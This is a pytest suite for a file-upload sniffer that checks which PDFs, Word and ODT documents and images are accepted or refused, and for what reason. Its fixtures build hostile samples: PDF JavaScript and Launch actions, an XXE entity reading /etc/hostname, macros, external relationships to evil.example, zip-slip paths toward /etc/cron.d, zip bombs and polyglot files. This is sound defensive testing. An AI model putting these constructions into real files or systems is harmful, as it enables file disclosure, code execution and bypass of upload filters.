"""What is taken, what is not, and by which word each is refused."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image

from tests.uploads import corpus
from tests.uploads.corpus import DOCUMENT, docx_file, docx_with, image, odt_file, pdf, zipped
from uploads.kinds import BY_CODE
from uploads.sniff import Verdict, inspect, verify_in_child

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>'
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
GOOD_PDF = pdf(pages=2)
GOOD_DOCX = docx_file("Đoạn một", "Đoạn hai")


def verdict_on(data: bytes, code: str, folder: Path) -> Verdict:
    path = folder / "file"
    path.write_bytes(data)
    return inspect(path, BY_CODE[code])


HONEST = [
    ("pdf", GOOD_PDF, {"pages": 2, "width": 595, "height": 842}),
    ("docx", GOOD_DOCX, {}),
    ("docx", docx_with({"word/embeddings/oleObject1.bin": "Equation Native".encode("utf-16-le")}), {}),
    ("docx", docx_with({"word/embeddings/chart.xlsx": GOOD_DOCX}), {}),
    ("odt", odt_file(), {}),
    ("jpeg", image("JPEG", (320, 200)), {"width": 320, "height": 200}),
    ("jpeg", image("JPEG", mode="CMYK"), {"width": 64}),
    ("jpeg", image("MPO", append_images=[Image.new("RGB", (64, 48))], save_all=True), {"width": 64}),
    ("png", image("PNG", mode="RGBA"), {"height": 48}),
    ("png", corpus.png_of(7000, 8000), {"width": 7000}),
    ("webp", image("WEBP"), {"height": 48}),
]


@pytest.mark.parametrize(("code", "data", "facts"), HONEST)
def test_honest_files_are_taken(code: str, data: bytes, facts: dict[str, int], tmp_path: Path) -> None:
    verdict = verdict_on(data, code, tmp_path)
    assert (verdict.ok, verdict.reason) == (True, "")
    assert (verdict.facts.mime, verdict.facts.size) == (BY_CODE[code].mime, len(data))
    assert {name: getattr(verdict.facts, name) for name in facts} == facts


def with_link(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://baoquangtri.vn")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([note]))


def opening_on_a_page(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.XYZ, 0, 842, 1])


@pytest.mark.parametrize("change", [with_link, opening_on_a_page])
def test_what_layout_programs_put_into_a_pdf_is_harmless(change: Callable[[pikepdf.Pdf], None], tmp_path: Path) -> None:
    assert verdict_on(pdf(change=change), "pdf", tmp_path).ok


def in_the_page(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))
    document.pages[0].AA = pikepdf.Dictionary(O=action)


def by_name(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="1"))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", action]))


def launching(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def after_a_harmless_action(document: pikepdf.Pdf) -> None:
    bad = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1")
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=[document.pages[0].obj, pikepdf.Name.Fit], Next=[bad]
    )


def with_form_program(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))


def with_film(document: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].Annots = pikepdf.Array([note])


LIVELY = [corpus.with_script, corpus.with_attachment, in_the_page, by_name, launching, after_a_harmless_action]
LIVELY += [with_form_program, with_film]


@pytest.mark.parametrize("change", LIVELY)
@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_that_acts_is_refused(change: Callable[[pikepdf.Pdf], None], packed: bool, tmp_path: Path) -> None:
    data = pdf(change=change)
    if packed:  # into compressed object streams, where a search through the bytes finds nothing
        opened = pikepdf.open(io.BytesIO(data))
        data = corpus.saved(opened, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        assert b"/JavaScript" not in data
    assert verdict_on(data, "pdf", tmp_path).reason == "active_content"


def test_a_name_written_in_code_is_still_that_name(tmp_path: Path) -> None:
    data = pdf(change=corpus.with_script).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/J#61vaScript" in data
    assert verdict_on(data, "pdf", tmp_path).reason == "active_content"


def relationships(kind: str, mode: str = "External") -> bytes:
    row = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="http://evil.example/x" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="{RELATIONSHIPS}">{row}</Relationships>'.encode()


def types(main: str) -> bytes:
    return parts["[Content_Types].xml"].replace(MAIN.encode(), main.encode())


parts = corpus.parts_of(GOOD_DOCX)
MANY = {f"word/{number}.xml": b"<x/>" for number in range(2000)}
SETTINGS = "word/_rels/settings.xml.rels"

REFUSED = [
    # nothing, or not all of it
    ("pdf", b"", "empty"),
    ("pdf", GOOD_PDF[:-200], "truncated"),
    ("pdf", GOOD_PDF[:300], "truncated"),
    ("pdf", b"%PDF-1.7\n" + bytes(3000) + b"%%EOF\n", "truncated"),
    ("docx", GOOD_DOCX[:-100], "truncated"),
    ("docx", GOOD_DOCX[: len(GOOD_DOCX) // 2], "truncated"),
    ("docx", docx_with({DOCUMENT: b"<w:document"}), "truncated"),
    ("jpeg", image("JPEG", (500, 500))[:-2000], "truncated"),
    ("png", image("PNG", (500, 500))[:-500], "truncated"),
    ("webp", image("WEBP", (500, 500))[:-100], "truncated"),
    ("png", image("PNG").replace(b"IDAT", b"IDAX"), "truncated"),
    # an honest file under a wrong ending
    ("jpeg", image("PNG"), "wrong_type"),
    ("png", image("GIF"), "wrong_type"),
    ("pdf", image("JPEG"), "wrong_type"),
    ("pdf", GOOD_DOCX, "wrong_type"),
    ("docx", GOOD_PDF, "wrong_type"),
    ("docx", odt_file(), "wrong_type"),
    ("odt", GOOD_DOCX, "wrong_type"),
    ("docx", corpus.OLD_WORD, "wrong_type"),
    ("docx", b"Just a few words of plain text.", "wrong_type"),
    ("pdf", b"\x01\x02\x03\x04" * 100, "wrong_type"),
    ("mp3", corpus.MP4, "wrong_type"),
    ("mp4", corpus.PLAYLIST, "wrong_type"),
    ("docx", docx_with({"[Content_Types].xml": types(MAIN.replace("document.main", "template.main"))}), "wrong_type"),
    # something else under this name
    ("pdf", corpus.HTML, "disguised"),
    ("mp4", corpus.HTML, "disguised"),
    ("png", corpus.SVG, "disguised"),
    ("docx", corpus.EXE, "disguised"),
    ("docx", zipped({"a.txt": b"not a document"}), "disguised"),
    ("odt", zipped({"content.xml": b"<x/>"}), "disguised"),
    ("docx", docx_with({"[Content_Types].xml": b"<Types/>"}), "disguised"),
    # two things at once
    ("pdf", b"junk " + GOOD_PDF, "wrong_type"),
    ("pdf", b"GIF89a;" + GOOD_PDF, "wrong_type"),
    ("pdf", b"%PDF-1.7\n%<html><script>1</script>\n" + GOOD_PDF, "disguised"),
    ("pdf", GOOD_PDF + corpus.HTML, "disguised"),
    ("pdf", GOOD_PDF + GOOD_DOCX, "disguised"),
    ("jpeg", image("JPEG") + GOOD_DOCX, "disguised"),
    ("png", image("PNG") + GOOD_DOCX, "disguised"),
    ("jpeg", image("JPEG", comment=corpus.HTML), "disguised"),
    ("webp", image("WEBP") + b"<ScRiPt>1</script>", "disguised"),
    ("docx", GOOD_DOCX + corpus.HTML, "disguised"),
    ("docx", image("GIF") + GOOD_DOCX, "wrong_type"),
    ("docx", b"#!/bin/sh\n" + GOOD_DOCX, "disguised"),
    # locked
    ("pdf", corpus.encrypted_pdf(), "encrypted"),
    ("pdf", corpus.encrypted_pdf(user="secret"), "encrypted"),
    ("docx", corpus.LOCKED_WORD, "encrypted"),
    ("docx", corpus.with_directory_field(GOOD_DOCX, DOCUMENT, 8, "<H", 1), "encrypted"),
    ("odt", odt_file(**{"META-INF/manifest.xml": b"<m><encryption-data/></m>"}), "encrypted"),
    # what acts
    ("docx", docx_with({"word/vbaProject.bin": b"x"}), "active_content"),
    ("docx", docx_with({"word/other/VBAPROJECT.BIN": b"x"}), "active_content"),
    ("docx", docx_with({"word/activeX/activeX1.xml": b"<x/>"}), "active_content"),
    ("docx", docx_with({"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}), "active_content"),
    ("docx", docx_with({"word/embeddings/book.XLSM": b"x"}), "active_content"),
    (
        "docx",
        docx_with({"[Content_Types].xml": types(MAIN.replace("document.main", "document.macroEnabled.main"))}),
        "active_content",
    ),
    ("docx", docx_with({SETTINGS: relationships("attachedTemplate")}), "active_content"),
    ("docx", docx_with({SETTINGS: relationships("oleObject", "EXTERNAL")}), "active_content"),
    ("docx", docx_with({DOCUMENT: DOCTYPE}), "active_content"),
    ("docx", docx_with({"customXml/item9.xml": DOCTYPE}), "active_content"),
    ("docx", docx_with({DOCUMENT: DOCTYPE.decode().encode("utf-16")}), "active_content"),
    ("odt", odt_file(**{"Basic/Standard/Module1.xml": b"<x/>"}), "active_content"),
    ("odt", odt_file(**{"settings.xml": DOCTYPE}), "active_content"),
    ("odt", odt_file('<script xmlns="x">1</script>'), "active_content"),
    # rules on archives
    ("docx", docx_with(MANY), "zip_rules"),
    ("docx", docx_with({"word/media/zeros.bin": bytes(30_000_000)}), "zip_rules"),
    ("docx", corpus.with_directory_field(GOOD_DOCX, DOCUMENT, 24, "<L", 600_000_000), "zip_rules"),
    ("docx", corpus.overlapping(GOOD_DOCX), "zip_rules"),
    ("docx", corpus.with_directory_field(GOOD_DOCX, "word/numbering.xml", 42, "<L", 5), "zip_rules"),
    ("docx", docx_with({"../../etc/cron.d/x": b"x"}), "zip_rules"),
    ("docx", docx_with({"/etc/cron.d/x": b"x"}), "zip_rules"),
    ("docx", docx_with({"..\\x": b"x"}), "zip_rules"),
    ("docx", docx_with({"C:/x": b"x"}), "zip_rules"),
    ("docx", docx_with({"WORD/document.xml": b"<x/>"}), "zip_rules"),
    ("docx", docx_with({}, corpus.link), "zip_rules"),
    ("docx", docx_with({}, lambda archive: archive.writestr("x", b"x", zipfile.ZIP_BZIP2)), "zip_rules"),
    ("docx", GOOD_DOCX.replace(b"word/document.xml", b"word/dokument.xml", 1), "zip_rules"),
    # too large to open
    ("png", corpus.png_of(30_000, 30_000), "image_too_large"),
    ("png", corpus.png_of(60_001, 1_000), "image_too_large"),
]


@pytest.mark.parametrize(("code", "data", "reason"), REFUSED)
def test_files_are_refused_for_the_right_reason(code: str, data: bytes, reason: str, tmp_path: Path) -> None:
    verdict = verdict_on(data, code, tmp_path)
    assert (verdict.ok, verdict.reason) == (False, reason)
    assert verdict.facts.size == len(data)


def test_a_program_is_never_taken_for_a_recording(tmp_path: Path) -> None:
    """Decoders of MP3 play almost anything."""
    assert verdict_on(corpus.ELF, "mp3", tmp_path).reason in ("disguised", "wrong_type")


def test_sizes_that_lie_are_found_out(tmp_path: Path) -> None:
    """The directory declares one byte; the part holds more."""
    short = corpus.with_directory_field(GOOD_DOCX, DOCUMENT, 24, "<L", 1)
    assert verdict_on(short, "docx", tmp_path).reason == "truncated"


def test_deep_nesting_ends_in_a_verdict(tmp_path: Path) -> None:
    nested = b"[" * 200_000 + b"]" * 200_000
    data = pdf().replace(b"/MediaBox [ 0 0 595 842 ]", b"/MediaBox [ 0 0 595 842 ] /Deep " + nested)
    assert b"/Deep" in data
    assert verify_in_child_of(data, "a.pdf", "pdf", tmp_path).reason in ("", "truncated", "could_not_check")
    deep = b"<x>" * 300_000 + b"</x>" * 300_000
    assert verify_in_child_of(docx_with({"word/deep.xml": deep}), "a.docx", "docx", tmp_path).reason in (
        "",
        "zip_rules",
    )


# In the child


def verify_in_child_of(data: bytes, name: str, code: str, folder: Path, **options: Any) -> Verdict:
    path = folder / "original"
    path.write_bytes(data)
    return verify_in_child(path, name, BY_CODE[code], **options)


def test_the_child_tells_what_the_bytes_told(tmp_path: Path) -> None:
    assert verify_in_child_of(GOOD_PDF, "Phóng sự.PDF", "pdf", tmp_path) == verdict_on(GOOD_PDF, "pdf", tmp_path)
    scripted = pdf(change=corpus.with_script)
    assert verify_in_child_of(scripted, "a.pdf", "pdf", tmp_path) == verdict_on(scripted, "pdf", tmp_path)


@pytest.mark.parametrize("name", ["a.docx", "a", "pdf", "a.pdf.exe", "a.pdf.", "a.pd f", ""])
def test_the_ending_must_be_of_the_claimed_kind(name: str, tmp_path: Path) -> None:
    assert verify_in_child_of(GOOD_PDF, name, "pdf", tmp_path).reason == "wrong_type"


def test_one_byte_too_many_is_refused_unopened(tmp_path: Path) -> None:
    path = tmp_path / "a.png"
    path.write_bytes(image("PNG"))
    size = path.stat().st_size
    exact, tight = (replace(BY_CODE["png"], max_bytes=limit) for limit in (size, size - 1))
    assert verify_in_child(path, "a.png", exact).ok
    verdict = verify_in_child(path, "a.png", tight)
    assert (verdict.reason, verdict.facts.mime) == ("too_large", None)


def test_a_child_that_does_not_come_back_gives_no_verdict(tmp_path: Path) -> None:
    verdict = verify_in_child_of(GOOD_PDF, "a.pdf", "pdf", tmp_path, wall_seconds=0.01)
    assert (verdict.ok, verdict.reason, verdict.facts.size) == (False, "could_not_check", len(GOOD_PDF))
